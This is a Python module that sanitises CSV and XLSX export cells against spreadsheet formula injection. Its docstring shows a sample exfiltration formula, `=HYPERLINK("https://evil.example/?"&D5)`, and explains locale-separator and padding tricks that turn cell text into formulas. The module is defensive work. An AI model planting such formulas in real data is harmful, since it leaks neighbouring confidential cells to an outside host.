"""Cells for CSV and XLSX exports that no spreadsheet program will run as formulas, in any locale.

Exports carry text others wrote (recommendation texts, action titles, organisation names), and the
matrix carries confidential ratings. A cell starting with `=`, `+`, `-`, `@`, a tab or a carriage
return is a formula to Excel (LibreOffice: `=`) — e.g. `=HYPERLINK("https://evil.example/?"&D5)`
would send a neighbouring cell to whoever wrote it.

Checking the start of a cell is not enough: a program whose locale separates by `;` (sl-SI, hr-HR)
reads our comma CSV with `;`, where a quote only counts at the start of a field, so
`Budget;=2+3` becomes two cells, the second a formula. So the rule, for CSV:
- every text cell is quoted (`csv.QUOTE_NONNUMERIC` on cells turned into `str` first: anything not
  a real number — enums, dates, numbers already formatted as text — is text; ids and counts stay
  unquoted numbers, which no parser reads as a formula);
- the start of the cell and every segment after a character some parser splits on (`,`, `;`, tab,
  newline, carriage return) get a leading `'` (OWASP's advice) when they begin with a formula
  character, also after padding (any Unicode space, zero-width characters) or quotes: LibreOffice's
  "trim spaces" option and its quote handling turn ` =1+2` and `"=1+2"` into formulas too
  (tests/security/test_spreadsheet_formulas.py checks all of this in LibreOffice). The price is a
  visible `'` in such text (`- item` lines of a list); the XLSX export keeps every text as written.
XLSX cells are stored as strings (openpyxl would otherwise store a text starting with `=` as a
formula, and `#N/A` as an error), which Excel and LibreOffice never evaluate; characters XML cannot
hold (openpyxl refuses them, which would be a 500) become U+FFFD.
"""

import csv
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A separator followed (after spaces or quotes) by a formula character; the text's start is checked
# apart (a pattern starting with a character class is fast to search: most cells have no match).
# Padding is every Unicode whitespace (`\s` of a str pattern: no-break and ideographic spaces
# included) and the invisible characters some parsers drop (zero-width space, non-joiner, joiner,
# word joiner, Mongolian vowel separator, BOM), and quotes.
# Not the separators tab, newline and carriage return: they start a segment of their own.
_PADDING = r"""(?:[^\S\t\n\r]|["\u200b-\u200d\u2060\u180e\ufeff])*"""
_UNSAFE_AFTER_SEPARATOR = re.compile(rf"""([,;\t\n\r])(?={_PADDING}[=+\-@\t\r])""")
_UNSAFE_START = re.compile(rf"""{_PADDING}[=+\-@\t\r]""")
_NOT_IN_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")  # openpyxl's ILLEGAL_CHARACTERS_RE
# What openpyxl would store as a formula (`=…`) or an error (`#N/A` …) rather than as the text.
_XLSX_NOT_TEXT = ("#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A")


def is_number(value: Any) -> bool:
    """A number a spreadsheet reads as a number (a bool is text: `True`)."""
    return isinstance(value, int | float | Decimal) and not isinstance(value, bool)


def csv_text(value: str) -> str:
    """`value` with a `'` before every segment a parser could read as a formula cell."""
    if _UNSAFE_AFTER_SEPARATOR.search(value):
        value = _UNSAFE_AFTER_SEPARATOR.sub(r"\1'", value)
    return "'" + value if _UNSAFE_START.match(value) else value


def csv_cell(value: Any) -> int | float | Decimal | str:
    """A number as is; anything else as guarded text (None: empty)."""
    if is_number(value):
        return value
    return csv_text("" if value is None else str(value))


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]


class SafeCsvWriter:
    """`csv.writer` that quotes every text cell and guards it: the one way exports write CSV."""

    def __init__(self, stream: IO[str]) -> None:
        self._writer = csv.writer(stream, quoting=csv.QUOTE_NONNUMERIC)

    def writerow(self, values: Iterable[Any]) -> None:
        self._writer.writerow(csv_row(values))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for values in rows:
            self.writerow(values)


def csv_writer(stream: IO[str]) -> SafeCsvWriter:
    return SafeCsvWriter(stream)


def xlsx_text(value: str) -> str:
    return _NOT_IN_XML.sub("\ufffd", value) if _NOT_IN_XML.search(value) else value


def xlsx_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """Cells for `sheet.append` (a write-only or ordinary worksheet): every text a string cell."""
    from openpyxl.cell import WriteOnlyCell

    cells: list[Any] = []
    for value in values:
        if value is None or is_number(value):
            cells.append(value)
            continue
        text = xlsx_text(str(value))
        if text.startswith("=") or text in _XLSX_NOT_TEXT:
            cell = WriteOnlyCell(sheet, text)
            cell.data_type = "s"  # set after the value: openpyxl infers a formula or an error from it
            cells.append(cell)
        else:
            cells.append(text)  # openpyxl stores any other text as a string
    return cells
